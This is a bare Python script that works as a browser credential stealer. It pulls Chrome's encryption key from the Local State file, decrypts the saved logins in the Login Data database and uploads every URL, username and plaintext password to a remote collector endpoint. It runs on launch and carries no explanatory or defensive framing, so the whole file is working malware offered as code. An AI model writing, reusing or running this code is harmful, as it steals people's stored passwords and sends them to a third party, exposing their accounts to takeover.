import os, json, base64, sqlite3, shutil, win32crypt, requests
from Crypto.Cipher import AES
def key():
    with open(os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "Local State"), encoding="utf-8") as f:
        return win32crypt.CryptUnprotectData(base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
def logins():
    shutil.copyfile(os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "default", "Login Data"), "c.db")
    rows = sqlite3.connect("c.db").cursor().execute("select origin_url, username_value, password_value from logins").fetchall()
    return [(u, n, AES.new(key(), AES.MODE_GCM, p[3:15]).decrypt(p[15:])[:-16].decode()) for u, n, p in rows]
def start():
    requests.post("https://collector.invalid/l", files={"f": ("l.txt", json.dumps(logins()))})
start()
